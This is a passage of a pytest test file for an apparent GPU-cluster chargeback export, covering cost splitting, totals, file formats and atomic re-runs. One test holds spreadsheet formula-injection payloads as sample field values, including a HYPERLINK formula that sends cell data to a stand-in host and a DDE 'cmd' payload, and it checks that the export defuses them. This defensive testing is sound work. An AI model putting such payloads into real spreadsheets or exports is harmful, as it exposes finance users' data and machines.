"""Chargeback exports (db/chargeback/, file format in db/chargeback/FORMAT.md): hand-computed
totals to the cent, pro rata splits at midnight and month boundaries, byte-identical re-runs,
atomic replacement, file formats.

The synthetic runs here are also used by tests/unit/test_statement.py. Every test that reads
a ledger runs on both backends (``ledger_target``: a SQLite file, then a PostgreSQL
database); the few about what only a SQLite file can hold say so. The last tests put the
same runs into both and compare the files byte for byte.
"""

from __future__ import annotations

import csv
import hashlib
import json
import re
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from db.chargeback import export as ex
from db.chargeback.columns import (
    AGGREGATES,
    EXPORT_COLUMNS,
    MEASURE_COLUMNS,
    aggregate_columns,
    json_schema,
    schema_text,
)
from db.chargeback.periods import Period, day_period, month_period, parse_period
from db.chargeback.rows import RowFormatter
from db.store import Store, open_store
from policies.money import fractions, money, split, to_cents

REPO = Path(__file__).resolve().parents[2]
DAY = date(2026, 11, 25)


def ts(text: str) -> float:
    """'2026-11-25 10:00' (UTC) -> epoch seconds."""
    return datetime.fromisoformat(text).replace(tzinfo=UTC).timestamp()


RUN_DEFAULTS: dict[str, Any] = {
    "cluster": "c1", "restart_count": 0, "state": "COMPLETED", "user": "alice",
    "account": "vision", "team": "vision", "project": "vit-scaling", "cost_center": "CC1001",
    "partition": "gpu", "gpu_type": "a100", "gpus": 1.0, "cpus": 8.0, "mem_mb": 16384.0,
    "node_count": 1, "nodes": "node1", "tags": "{}", "cost_gpu": 0.0, "cost_cpu": 0.0,
    "cost_mem": 0.0, "cost_energy": 0.0, "cost_idle": 0.0, "credit": 0.0, "energy_j": None,
    "util_mean": None, "exit_code": "0:0",
}


def add_run(store: Store, job_id: int, start: str | None, end: str | None,
            cost: float | None | str, **fields: Any) -> dict[str, Any]:
    """Insert one run; ``cost`` None leaves it unsettled. GPU-seconds default to gpus x
    wall time; cost_gpu defaults to the whole cost."""
    row = dict(RUN_DEFAULTS, job_id=job_id, **fields)
    row["start_ts"] = ts(start) if start else None
    row["end_ts"] = ts(end) if end else None
    row["cost"] = cost
    if cost is not None and "cost_gpu" not in fields:
        row["cost_gpu"] = cost
    if "gpu_seconds" not in fields and row["start_ts"] and row["end_ts"]:
        row["gpu_seconds"] = row["gpus"] * (row["end_ts"] - row["start_ts"])
    row.setdefault("updated_at", (row["end_ts"] or 0) + 5)
    row.setdefault("settled_at", row["updated_at"] if cost is not None else None)
    cols = list(row)
    with store.transaction():
        store.conn.execute(
            f"INSERT INTO runs ({', '.join(f'{chr(34)}{c}{chr(34)}' for c in cols)}) "
            f"VALUES ({', '.join(f':{c}' for c in cols)})", row)
    return row


def add_progress(store: Store, job_id: int, epoch: int | None, step: int | None, *,
                 epoch_base: int = 0, step_base: int = 0, restart_count: int = 0) -> None:
    """The progress a run reported (run_progress), as the daemon records it."""
    with store.transaction():
        store.conn.execute(
            "INSERT INTO run_progress (cluster, job_id, restart_count, uid, epoch, step, "
            "epoch_base, step_base, reports, first_ts, last_ts) VALUES ('c1', :job, :restart, "
            "1001, :epoch, :step, :epoch_base, :step_base, 1, :ts, :ts)",
            {"job": job_id, "restart": restart_count, "epoch": epoch, "step": step,
             "epoch_base": epoch_base, "step_base": step_base, "ts": ts("2026-11-25 00:00")})


def sample_store(target: str | Path) -> Store:
    """The runs the export tests compute by hand (day D = 2026-11-25, UTC), in the ledger at
    ``target`` (a SQLite file or a PostgreSQL URL)."""
    store = open_store(target)
    # inside D: 2 h on 4 GPUs, every cost part, 2 kWh
    add_run(store, 1, "2026-11-25 10:00", "2026-11-25 12:00", 10.0, gpus=4.0,
            cost_gpu=8.0, cost_cpu=1.5, cost_mem=0.5, cost_idle=2.0, energy_j=7_200_000.0,
            util_mean=75.0)
    # crosses midnight D -> D+1 half-way: 10.01 -> 5.01 + 5.00
    add_run(store, 2, "2026-11-25 23:00", "2026-11-26 01:00", 10.01)
    # crosses midnight at 40 %, fully credited (node failure): 1.00 -> 0.40 + 0.60
    add_run(store, 3, "2026-11-25 23:36", "2026-11-26 00:36", 1.0, credit=1.0,
            state="NODE_FAIL", credit_reason="node_failure", user="bob", account="nlp",
            team="nlp", project="llm-pretrain", cost_center="CC2002", gpu_type="h100")
    # zero-length run (requeued job, restart 1) at 15:00
    add_run(store, 4, "2026-11-25 15:00", "2026-11-25 15:00", 0.5, restart_count=1)
    # not settled yet: counted, not exported
    add_run(store, 5, "2026-11-25 13:00", "2026-11-25 14:00", None, state=None)
    # crosses the month boundary half-way: 100 -> 50 + 50, credit 10 -> 5 + 5
    add_run(store, 6, "2026-10-31 22:00", "2026-11-01 02:00", 100.0, credit=10.0,
            credit_reason="admin", user="bob", account="nlp", team="nlp",
            project="llm-eval", cost_center="CC2002", gpu_type="h100")
    # no start time: all of it at its end
    add_run(store, 7, None, "2026-11-25 08:00", 3.33, gpu_seconds=3600.0)
    # ends exactly at D's start: belongs to D-1 only
    add_run(store, 8, "2026-11-24 22:00", "2026-11-25 00:00", 2.0)
    # half a cent rounds up: 1.005 -> 1.01
    add_run(store, 9, "2026-11-25 09:00", "2026-11-25 09:30", 1.005)
    # text that needs CSV quoting, and no team
    add_run(store, 10, "2026-11-25 16:00", "2026-11-25 17:00", 2.0, user='o"neil',
            project="a,b", team=None, account=None, cost_center=None)
    # three days, odd amount: 7.77 over D-1 12:00 .. D+1 12:00 (quarter, half, quarter)
    add_run(store, 11, "2026-11-24 12:00", "2026-11-26 12:00", 7.77, gpu_type="a100+h100",
            array_job_id=900, array_task_id=3, nodes="node[1-2]", node_count=2, gpus=8.0)
    return store


# Hand-computed cents of each run in D = 2026-11-25 (cost, credit).
DAY_CENTS = {
    1: (1000, 0), 2: (501, 0), 3: (40, 40), 4: (50, 0), 7: (333, 0), 9: (101, 0),
    10: (200, 0), 11: (389, 0),  # 777 * 0.75 -> 583 (R(582.75)); 777 * 0.25 -> 194; 583-194
}


# -- a small JSON Schema validator (the subset db/chargeback/export_schema.json uses) ---------


def validate(instance: Any, schema: dict[str, Any], path: str = "$") -> list[str]:
    errors: list[str] = []
    types = schema.get("type")
    if types is not None:
        allowed = types if isinstance(types, list) else [types]
        ok = any(_is(instance, t) for t in allowed)
        if not ok:
            return [f"{path}: {instance!r} is not {allowed}"]
    if "enum" in schema and instance not in schema["enum"]:
        errors.append(f"{path}: {instance!r} not in {schema['enum']}")
    if isinstance(instance, str) and "pattern" in schema \
            and not re.search(schema["pattern"], instance):
        errors.append(f"{path}: {instance!r} does not match {schema['pattern']}")
    if isinstance(instance, dict):
        for key in schema.get("required", []):
            if key not in instance:
                errors.append(f"{path}: missing {key}")
        props = schema.get("properties", {})
        for key, value in instance.items():
            if key in props:
                errors.extend(validate(value, props[key], f"{path}.{key}"))
            elif schema.get("additionalProperties") is False:
                errors.append(f"{path}: unexpected {key}")
    return errors


def _is(value: Any, kind: str) -> bool:
    return {
        "object": isinstance(value, dict),
        "string": isinstance(value, str),
        "integer": isinstance(value, int) and not isinstance(value, bool),
        "number": isinstance(value, int | float) and not isinstance(value, bool),
        "null": value is None,
        "array": isinstance(value, list),
        "boolean": isinstance(value, bool),
    }[kind]


# -- helpers ---------------------------------------------------------------------------------


@pytest.fixture
def db_path(ledger_target: str) -> str:
    """The sample ledger, on each backend in turn (a SQLite file, a PostgreSQL URL)."""
    sample_store(ledger_target).close()
    return ledger_target


@pytest.fixture
def sqlite_db(tmp_path: Path) -> str:
    """The sample ledger in a SQLite file, for what only SQLite can hold."""
    path = str(tmp_path / "slurmgate.db")
    sample_store(path).close()
    return path


def export(db: str | Path, period: Period, out: Path, **kw: Any) -> ex.ExportResult:
    kw.setdefault("parquet", False)
    return ex.export_period(db, period, out, **kw)


def exported_rows(target: str, period: Period) -> list[Any]:
    """The input rows of the export of ``period`` (RowFormatter's), as the export reads them."""
    with ex.open_reader(target) as reader:
        return reader.conn.execute(
            ex._SELECT + "WHERE " + ex._SCOPE + ex._order(reader.dialect),
            {"a": period.start_ts, "b": period.end_ts}).fetchall()


def read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def read_jsonl(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def digests(folder: Path) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.iterdir())}


def cents(text: str) -> int:
    d = Decimal(text)
    assert d.as_tuple().exponent == -2, text
    return int(d * 100)


# -- periods ---------------------------------------------------------------------------------


def test_periods_from_the_command_line_options() -> None:
    today = date(2026, 12, 1)
    assert parse_period(today=today).label == "2026-11-30"
    p = parse_period(day="2026-11-25", today=today)
    assert (p.kind, p.label, p.start_iso, p.end_iso) == (
        "day", "2026-11-25", "2026-11-25T00:00:00Z", "2026-11-26T00:00:00Z")
    m = parse_period(month="2026-12", today=today)
    assert (m.label, m.start_iso, m.end_iso) == ("2026-12", "2026-12-01T00:00:00Z",
                                                 "2027-01-01T00:00:00Z")
    assert parse_period(month="last", today=today).label == "2026-11"
    r = parse_period(first="2026-11-01", last="2026-11-15", today=today)
    assert (r.label, r.end_iso) == ("2026-11-01_2026-11-15", "2026-11-16T00:00:00Z")
    for bad, msg in (({"day": "25/11/2026"}, "UTC day like 2026-11-25"),
                     ({"month": "2026-13"}, "month like 2026-10"),
                     ({"first": "2026-11-02"}, "go together"),
                     ({"first": "2026-11-05", "last": "2026-11-01"}, "before --from"),
                     ({"day": "2026-11-01", "month": "2026-11"}, "give one of")):
        with pytest.raises(ValueError, match=msg):
            parse_period(today=today, **bad)


def test_split_pieces_always_add_up_to_the_run() -> None:
    start, end = 1000.0, 1000.0 + 3 * 86400 + 7
    edges = [start - 5, 86400.0 * 1, 1000 + 86400.0, 1000 + 2 * 86400.0 + 0.3, end + 10]
    for amount in (0, 1, 7, 777, 10**9 + 3, 123456789):
        pieces = []
        for lo, hi in zip(edges, edges[1:], strict=False):
            f_lo, f_hi = fractions(start, end, lo, hi)
            if lo < end and hi > start:
                pieces.append(split(amount, f_lo, f_hi))
        assert sum(pieces) == amount
    assert to_cents(1.005) == 101 and to_cents(0.004999) == 0 and to_cents(None) == 0
    assert money(-5) == "-0.05" and money(123456) == "1234.56"


# -- a day -----------------------------------------------------------------------------------


def test_day_export_reproduces_hand_computed_totals(db_path: str, tmp_path: Path) -> None:
    res = export(db_path, day_period(DAY), tmp_path / "out", mode="showback",
                 currency="EUR")
    folder = tmp_path / "out" / "2026-11-25"
    assert res.path == folder
    rows = read_csv(folder / "runs.csv")
    got = {int(r["job_id"]): (cents(r["cost"]), cents(r["credit"])) for r in rows}
    assert got == DAY_CENTS
    total_cost = sum(c for c, _ in DAY_CENTS.values())
    total_credit = sum(c for _, c in DAY_CENTS.values())
    m = res.manifest
    assert (m["mode"], m["currency"], m["period"]["label"]) == ("showback", "EUR", "2026-11-25")
    assert m["totals"]["runs"] == len(DAY_CENTS) == m["files"]["runs.csv"]["rows"]
    assert cents(m["totals"]["cost"]) == total_cost == 2614
    assert cents(m["totals"]["credit"]) == total_credit == 40
    assert cents(m["totals"]["net"]) == total_cost - total_credit
    assert m["unsettled_runs"] == 1
    assert m["clusters"] == ["c1"]
    by_job = {int(r["job_id"]): r for r in rows}
    one = by_job[1]
    assert (one["cost_gpu"], one["cost_cpu"], one["cost_mem"], one["idle_cost"]) == (
        "8.00", "1.50", "0.50", "2.00")
    assert (one["gpu_hours"], one["energy_kwh"], one["seconds"], one["share"]) == (
        "8.000000", "2.000000", "7200", "1.000000")
    assert (by_job[2]["share"], by_job[2]["seconds"], by_job[2]["gpu_hours"]) == (
        "0.500000", "3600", "1.000000")
    assert by_job[3]["net"] == "0.00" and by_job[3]["credit_reason"] == "node_failure"
    assert by_job[4]["restart_count"] == "1" and by_job[4]["share"] == "1.000000"
    assert by_job[7]["start_time"] == by_job[7]["end_time"] == "2026-11-25T08:00:00Z"
    assert (by_job[11]["array_job_id"], by_job[11]["nodes"], by_job[11]["gpu_type"]) == (
        "900", "node[1-2]", "a100+h100")
    assert by_job[10]["user"] == 'o"neil' and by_job[10]["project"] == "a,b"
    assert by_job[10]["team"] == ""
    assert 8 not in by_job  # ended exactly at the day's start


def test_aggregates_are_exactly_the_sum_of_the_rows(db_path: str, tmp_path: Path) -> None:
    res = export(db_path, day_period(DAY), tmp_path / "out")
    folder = res.path
    runs = read_csv(folder / "runs.csv")
    money_cols = [c.name for c in MEASURE_COLUMNS if c.kind == "money"]
    for name, keys in AGGREGATES.items():
        agg = read_csv(folder / f"{name}.csv")
        assert agg == sorted(agg, key=lambda r: tuple(r[k] for k in keys))
        for col in money_cols:
            assert sum(cents(r[col]) for r in agg) == cents(res.manifest["totals"][col]), \
                (name, col)
        by_key: dict[tuple[str, ...], int] = {}
        for r in runs:
            k = tuple(r[key] for key in keys)
            by_key[k] = by_key.get(k, 0) + cents(r["net"])
        assert {tuple(r[k] for k in keys): cents(r["net"]) for r in agg} == by_key
        assert all(r["mode"] == "chargeback" and r["period"] == "2026-11-25" for r in agg)
    teams = {r["team"]: r for r in read_csv(folder / "by_team.csv")}
    assert set(teams) == {"", "nlp", "vision"}
    assert teams["nlp"]["credit"] == "0.40" and teams["nlp"]["net"] == "0.00"
    gpu_hours = sum(Decimal(r["gpu_hours"]) for r in runs)
    assert gpu_hours == Decimal(res.manifest["totals"]["gpu_hours"])


def test_daily_exports_add_up_to_the_month(db_path: str, tmp_path: Path) -> None:
    """Telescoping: the pieces of every run over the 30 days of November sum to the
    November export, per run and in total, to the cent (runs 6 and 11 cross edges)."""
    month = export(db_path, month_period(2026, 11), tmp_path / "out")
    per_run_month = {(r["job_id"], r["restart_count"]): r
                     for r in read_csv(month.path / "runs.csv")}
    sums: dict[tuple[str, str], dict[str, int]] = {}
    for day in range(1, 31):
        res = export(db_path, day_period(date(2026, 11, day)), tmp_path / "out")
        for r in read_csv(res.path / "runs.csv"):
            acc = sums.setdefault((r["job_id"], r["restart_count"]), {})
            for col in ("cost", "credit", "net", "cost_gpu"):
                acc[col] = acc.get(col, 0) + cents(r[col])
            acc["seconds"] = acc.get("seconds", 0) + int(r["seconds"])
    assert set(sums) == set(per_run_month)
    for key, acc in sums.items():
        r = per_run_month[key]
        assert acc == {"cost": cents(r["cost"]), "credit": cents(r["credit"]),
                       "net": cents(r["net"]), "cost_gpu": cents(r["cost_gpu"]),
                       "seconds": int(r["seconds"])}, key
    # the month boundary: run 6 is half in October, half in November
    assert (per_run_month[("6", "0")]["cost"], per_run_month[("6", "0")]["credit"]) == (
        "50.00", "5.00")
    october = export(db_path, month_period(2026, 10), tmp_path / "out")
    (oct_row,) = read_csv(october.path / "runs.csv")
    assert (oct_row["job_id"], oct_row["cost"], oct_row["net"], oct_row["share"]) == (
        "6", "50.00", "45.00", "0.500000")
    # 7.77 over three days: 1.94 + 3.89 + 1.94 = 7.77
    assert per_run_month[("11", "0")]["cost"] == "7.77"


def test_rerun_is_byte_identical_and_matches_its_manifest(db_path: str, tmp_path: Path
                                                          ) -> None:
    first = export(db_path, day_period(DAY), tmp_path / "a")
    second = export(db_path, day_period(DAY), tmp_path / "b")
    again = export(db_path, day_period(DAY), tmp_path / "a")
    assert digests(first.path) == digests(second.path) == digests(again.path)
    for name, info in first.manifest["files"].items():
        data = (first.path / name).read_bytes()
        assert hashlib.sha256(data).hexdigest() == info["sha256"]
        assert len(data) == info["bytes"]
    assert ex.verify_export(first.path) == []
    assert first.manifest["generated_at"] == "2026-11-26T00:00:00Z"
    assert first.manifest["data_as_of"] is not None


def test_worker_processes_write_the_same_bytes(db_path: str, tmp_path: Path,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    serial = export(db_path, month_period(2026, 11), tmp_path / "serial", jobs=1)
    monkeypatch.setattr(ex, "PARALLEL_MIN_RUNS", 1)
    seen: list[tuple[int, int]] = []
    parallel = export(db_path, month_period(2026, 11), tmp_path / "parallel", jobs=2,
                      progress=lambda done, total: seen.append((done, total)))
    assert digests(serial.path) == digests(parallel.path)
    total = serial.manifest["totals"]["runs"]
    assert seen[0] == (0, total) and seen[-1] == (total, total) and len(seen) > 2
    assert [d for d, _ in seen] == sorted(d for d, _ in seen)


def test_a_run_changing_during_a_parallel_export_is_exported_again(
        db_path: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ex, "PARALLEL_MIN_RUNS", 1)
    real = ex._fingerprint
    calls = {"whole": 0}

    def changed_once(conn: Any, params: dict[str, Any], *, sliced: bool) -> tuple[Any, ...]:
        fp = real(conn, params, sliced=sliced)
        if not sliced:
            calls["whole"] += 1
            if calls["whole"] == 1:  # as if the daemon re-settled a run meanwhile
                return (fp[0] + 1, *fp[1:])
        return fp

    monkeypatch.setattr(ex, "_fingerprint", changed_once)
    res = export(db_path, month_period(2026, 11), tmp_path / "out", jobs=2)
    assert calls["whole"] == 2
    assert ex.verify_export(res.path) == []
    monkeypatch.setattr(ex, "_fingerprint",
                        lambda c, p, *, sliced: (-1,) if not sliced else real(c, p, sliced=True))
    with pytest.raises(ex.ExportError, match="kept changing"):
        export(db_path, month_period(2026, 11), tmp_path / "out", jobs=2)
    assert ex.verify_export(res.path) == []  # the earlier export is untouched
    assert not [p for p in (tmp_path / "out").iterdir() if p.name.startswith(".2026")]


def test_rerun_replaces_the_folder_whole_and_a_failed_one_changes_nothing(
        db_path: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "out"
    folder = out / "2026-11-25"
    folder.mkdir(parents=True)
    (folder / "stale.csv").write_text("from an older slurmgate\n")
    (out / ".2026-11-25.tmp-99999").mkdir()  # left by a crashed export
    first = export(db_path, day_period(DAY), out)
    assert not (folder / "stale.csv").exists()
    assert not (out / ".2026-11-25.tmp-99999").exists()
    before = digests(folder)

    def boom(*args: Any, **kwargs: Any) -> Any:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(ex, "_aggregate_lines", boom)
    with pytest.raises(OSError, match="No space"):
        export(db_path, day_period(DAY), out)
    assert digests(folder) == before
    assert sorted(p.name for p in out.iterdir()) == [".export.lock", "2026-11-25"]
    assert first.manifest["files"]["runs.csv"]["rows"] == len(DAY_CENTS)


def test_csv_parses_into_the_documented_types(db_path: str, tmp_path: Path) -> None:
    res = export(db_path, month_period(2026, 11), tmp_path / "out")
    for name, columns in [("runs", EXPORT_COLUMNS),
                          *[(n, aggregate_columns(n)) for n in AGGREGATES]]:
        text = (res.path / f"{name}.csv").read_text(encoding="utf-8")
        assert "\r" not in text
        rows = list(csv.reader(text.splitlines()))
        assert rows[0] == [c.name for c in columns], name
        for row in rows[1:]:
            assert len(row) == len(columns)
            for col, value in zip(columns, row, strict=True):
                if value == "":
                    assert col.nullable or col.kind == "text", (name, col.name)
                    continue
                if col.kind == "int":
                    int(value)
                elif col.kind == "timestamp":
                    when = datetime.fromisoformat(value)
                    assert when.tzinfo is not None and when.utcoffset().total_seconds() == 0
                elif col.kind in ("money", "dec1", "dec3", "dec6"):
                    places = {"money": 2, "dec1": 1, "dec3": 3, "dec6": 6}[col.kind]
                    assert Decimal(value).as_tuple().exponent == -places, (col.name, value)


def test_json_lines_validate_against_the_schema(db_path: str, tmp_path: Path) -> None:
    res = export(db_path, month_period(2026, 11), tmp_path / "out")
    schema = json.loads((res.path / "schema.json").read_text())
    assert schema == json.loads((REPO / "db/chargeback/export_schema.json").read_text())
    try:
        import jsonschema
    except ImportError:
        jsonschema = None
    for name in ("runs", *AGGREGATES):
        sub = schema["$defs"][name]
        csv_rows = read_csv(res.path / f"{name}.csv")
        lines = read_jsonl(res.path / f"{name}.jsonl")
        assert len(lines) == len(csv_rows) > 0
        for obj, row in zip(lines, csv_rows, strict=True):
            assert validate(obj, sub) == [], (name, obj)
            if jsonschema is not None:
                jsonschema.validate(obj, sub)
            assert list(obj) == list(row)  # same columns, same order
            assert {k: "" if v is None else str(v) for k, v in obj.items()} == row
    # the validator itself catches what it should
    bad = dict(read_jsonl(res.path / "runs.jsonl")[0], cost=1.5, extra=1)
    assert len(validate(bad, schema["$defs"]["runs"])) == 2


def test_schema_file_and_column_table_are_in_sync() -> None:
    assert (REPO / "db/chargeback/export_schema.json").read_text() == schema_text(), \
        "regenerate: python -m db.chargeback.export --schema > db/chargeback/export_schema.json"
    spec = (REPO / "db/chargeback/FORMAT.md").read_text(encoding="utf-8")
    documented = re.findall(r"^\| (\w+) \| ", spec, re.M)
    assert documented[1:] == [c.name for c in EXPORT_COLUMNS]  # [0] is the header row


def test_bad_values_are_exported_as_zero_with_a_warning(db_path: str, tmp_path: Path
                                                        ) -> None:
    store = open_store(db_path)
    add_run(store, 20, "2026-11-25 01:00", "2026-11-25 02:00", float("inf"))
    add_run(store, 22, "2026-11-25 01:00", "2026-11-25 02:00", 1.0, credit=3.0)
    store.close()
    res = export(db_path, day_period(DAY), tmp_path / "out")
    rows = {r["job_id"]: r for r in read_csv(res.path / "runs.csv")}
    assert rows["20"]["cost"] == "0.00"
    assert rows["22"]["net"] == "-2.00"  # over-credited: shown, not hidden
    assert any("run c1/20/0" in w and "cost" in w for w in res.manifest["warnings"])
    assert ex.verify_export(res.path) == []
    lines = {o["job_id"]: o for o in read_jsonl(res.path / "runs.jsonl")}
    assert lines[22]["net"] == "-2.00"
    assert validate(lines[20], json_schema()["$defs"]["runs"]) == []


def test_text_in_an_amount_column_is_exported_as_zero_with_a_warning(sqlite_db: str,
                                                                      tmp_path: Path) -> None:
    """SQLite only: a REAL column of a SQLite file can hold text; PostgreSQL's cannot."""
    store = open_store(sqlite_db)
    add_run(store, 21, "2026-11-25 01:00", "2026-11-25 02:00", 4.0, credit="lots")
    store.close()
    res = export(sqlite_db, day_period(DAY), tmp_path / "out")
    rows = {r["job_id"]: r for r in read_csv(res.path / "runs.csv")}
    assert rows["21"]["credit"] == "0.00" and rows["21"]["cost"] == "4.00"
    assert any("run c1/21/0" in w and "credit" in w for w in res.manifest["warnings"])
    assert ex.verify_export(res.path) == []


def test_text_that_is_not_utf8_is_exported_with_replacement_characters(
        sqlite_db: str, tmp_path: Path) -> None:
    """SQLite only: a TEXT column of a SQLite file can hold bytes that are not UTF-8 (written
    by something else than slurmgate); PostgreSQL refuses them. The export decodes them with
    U+FFFD instead of failing."""
    store = open_store(sqlite_db)
    add_run(store, 23, "2026-11-25 01:00", "2026-11-25 02:00", 1.0)
    with store.transaction():
        store.conn.execute("UPDATE runs SET project = CAST(X'6162FF63' AS TEXT) "
                           "WHERE job_id = 23")
    store.close()
    res = export(sqlite_db, day_period(DAY), tmp_path / "out")
    rows = {r["job_id"]: r for r in read_csv(res.path / "runs.csv")}
    assert rows["23"]["project"] == "ab\ufffdc"
    assert ex.verify_export(res.path) == []


def test_clean_rows_take_the_fast_path_and_print_the_same(db_path: str,
                                                          monkeypatch: pytest.MonkeyPatch
                                                          ) -> None:
    """The fast path and the slow path (bad values, negative amounts) print the same line
    for a row both can take; and clean rows never fall back to the slow one."""
    period = month_period(2026, 11)
    rows = exported_rows(db_path, period)
    assert rows and {type(r[1]) for r in rows} == {int}  # job ids: int on both servers
    fast = RowFormatter(period)
    calls = []
    real_slow = fast._one_slow
    monkeypatch.setattr(fast, "_one_slow", lambda row: calls.append(row) or real_slow(row))
    fast_csv, fast_json = fast.format(rows)
    assert calls == []
    slow = RowFormatter(period)
    lines = [slow._one_slow(row) for row in rows]
    assert fast_csv == "".join(c for c, _, _, _ in lines)
    assert fast_json == "".join(j for _, j, _, _ in lines)


def test_an_old_or_missing_database_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(ex.ExportError, match="no database here"):
        export(tmp_path / "missing.db", day_period(DAY), tmp_path / "out")


def test_parquet_files_have_the_documented_types(db_path: str, tmp_path: Path) -> None:
    pa = pytest.importorskip("pyarrow")
    pq = pytest.importorskip("pyarrow.parquet")
    res = export(db_path, day_period(DAY), tmp_path / "out", parquet=True)
    table = pq.read_table(res.path / "runs.parquet")
    assert table.num_rows == len(DAY_CENTS)
    assert table.schema.field("cost").type == pa.decimal128(18, 2)
    assert table.schema.field("end_time").type == pa.timestamp("ms", tz="UTC")
    assert sum(table.column("cost").to_pylist()) == Decimal(res.manifest["totals"]["cost"])
    teams = pq.read_table(res.path / "by_team.parquet")
    assert sum(teams.column("net").to_pylist()) == Decimal(res.manifest["totals"]["net"])
    again = export(db_path, day_period(DAY), tmp_path / "again", parquet=True)
    assert digests(res.path) == digests(again.path)


def test_cli_export_writes_the_period_folder(db_path: str, tmp_path: Path,
                                             capsys: pytest.CaptureFixture[str]) -> None:
    from slurm_plugin.cli import main

    policy = tmp_path / "policy.toml"
    out = tmp_path / "exports"
    policy.write_text(f'[daemon]\ndatabase = "{db_path}"\n[budgets]\nmode = "showback"\n'
                      f'[export]\nout_dir = "{out}"\n')
    assert main(["--config", str(policy), "export", "--date", "2026-11-25", "--no-parquet"]) == 0
    said = capsys.readouterr().out
    assert "2026-11-25: 8 runs, net $25.74 (showback); 1 run not settled yet" in said
    manifest = json.loads((out / "2026-11-25" / "manifest.json").read_text())
    assert manifest["mode"] == "showback"
    assert main(["--config", str(policy), "export", "--month", "2026-11", "--quiet",
                 "--out", str(tmp_path / "elsewhere"), "--no-parquet"]) == 0
    assert capsys.readouterr().out == ""
    assert (tmp_path / "elsewhere" / "2026-11" / "runs.jsonl").exists()
    assert main(["--config", str(policy), "export", "--date", "2026-11-26", "--catch-up", "2",
                 "--quiet", "--no-parquet"]) == 0
    assert {p.name for p in out.iterdir() if not p.name.startswith(".")} == {
        "2026-11-24", "2026-11-25", "2026-11-26"}
    with pytest.raises(SystemExit, match="month like 2026-10"):
        main(["--config", str(policy), "export", "--month", "Nov"])


def test_formula_cells_are_defused_in_csv_and_numbers_are_not(ledger_target: str,
                                                               tmp_path: Path) -> None:
    """Account names (free text without slurmdbd) and record fields reach finance's
    spreadsheets: a text cell a spreadsheet would run as a formula gets a leading "'" in every
    CSV file; numbers (a negative net) and the JSON Lines stay as they are."""
    db_path = ledger_target
    store = open_store(db_path)
    evil = {"account": '=HYPERLINK("http://x.example/?"&A1,"click")', "gpu_type": "@SUM(1)",
            "user": "-2+3", "project": "+cmd|' /C calc'!A0", "nodes": "\tnode1",
            "team": "=1+1", "cost_center": "\rCC"}
    add_run(store, 30, "2026-11-25 01:00", "2026-11-25 02:00", 1.0, credit=3.0, **evil)
    add_run(store, 31, "2026-11-25 23:00", "2026-11-26 01:00", 2.0, **evil)  # split: slow
    add_run(store, 32, "2026-11-25 03:00", "2026-11-25 04:00", 1.0, account="plain-acct",
            user="a=b", gpu_type="a100")
    store.close()
    res = export(db_path, day_period(DAY), tmp_path / "out")
    rows = {r["job_id"]: r for r in read_csv(res.path / "runs.csv")}
    for job in ("30", "31"):
        r = rows[job]
        for name, value in evil.items():
            assert r[name] == "'" + value, (job, name)
    assert rows["30"]["net"] == "-2.00" and rows["30"]["credit"] == "3.00"
    assert (rows["32"]["account"], rows["32"]["user"]) == ("plain-acct", "a=b")
    lines = {o["job_id"]: o for o in read_jsonl(res.path / "runs.jsonl")}
    assert lines[30]["account"] == evil["account"] and lines[30]["net"] == "-2.00"
    teams = {r["team"]: r for r in read_csv(res.path / "by_team.csv")}
    assert "'=1+1" in teams and teams["'=1+1"]["net"].startswith("-")
    raw = (res.path / "by_gpu_type.csv").read_text()
    assert ",'@SUM(1)," in raw and ",@SUM" not in raw
    assert ex.verify_export(res.path) == []
    # the fast and the slow path print the same bytes for these rows too
    period = day_period(DAY)
    got = exported_rows(db_path, period)
    clean = [r for r in got if r[1] in (31, 32)]  # 30 is over-credited: slow path only
    fast_csv, fast_json = RowFormatter(period).format(clean)
    slow = RowFormatter(period)
    assert fast_csv == "".join(slow._one_slow(r)[0] for r in clean)
    assert fast_json == "".join(slow._one_slow(r)[1] for r in clean)
    assert "'@SUM(1)" in fast_csv


def test_an_export_reads_one_snapshot(db_path: str, tmp_path: Path,
                                      monkeypatch: pytest.MonkeyPatch) -> None:
    """A run settled while a parallel export runs. PostgreSQL: the export is one
    REPEATABLE READ snapshot that its workers share: the run is not in it and no second try
    is needed. SQLite: either a later slice saw the run or the check after the slices saw the
    change and the export was made again; either way the run is in it. On both the files
    agree with their manifest, and the next export has the run."""
    monkeypatch.setattr(ex, "PARALLEL_MIN_RUNS", 1)
    tries = []
    real_into = ex._export_into

    def counted(*args: Any, **kwargs: Any) -> dict[str, Any]:
        tries.append(1)
        return real_into(*args, **kwargs)

    monkeypatch.setattr(ex, "_export_into", counted)
    writer = open_store(db_path)
    added: list[dict[str, Any]] = []

    def settle_meanwhile(done: int, total: int) -> None:
        if done and not added:  # a slice is written: the export's reads have begun
            added.append(add_run(writer, 40, "2026-11-20 01:00", "2026-11-20 02:00", 4.0))

    res = export(db_path, month_period(2026, 11), tmp_path / "out", jobs=2,
                 progress=settle_meanwhile)
    assert added
    jobs = [r["job_id"] for r in read_csv(res.path / "runs.csv")]
    assert res.manifest["totals"]["runs"] == len(jobs)
    assert ex.verify_export(res.path) == []
    if writer.dialect == "postgresql":
        assert "40" not in jobs and len(tries) == 1
    else:
        assert "40" in jobs and len(tries) in (1, 2)
    writer.close()
    again = export(db_path, month_period(2026, 11), tmp_path / "again", jobs=2)
    assert "40" in [r["job_id"] for r in read_csv(again.path / "runs.csv")]


# Amounts whose micro-units are ties (x.5), or just below one, or beyond 2**52, and what
# SQLite's round(x * 1000000) makes of them (half away from zero; PostgreSQL's round() of a
# double would make 0, 2, -2, 10000002, ... of the ties: half to even).
MICRO_CASES = [
    (5e-07, 1), (1.5e-06, 2), (-1.5e-06, -2), (2.5e-06, 3), (-2.5e-06, -3), (4.5e-06, 5),
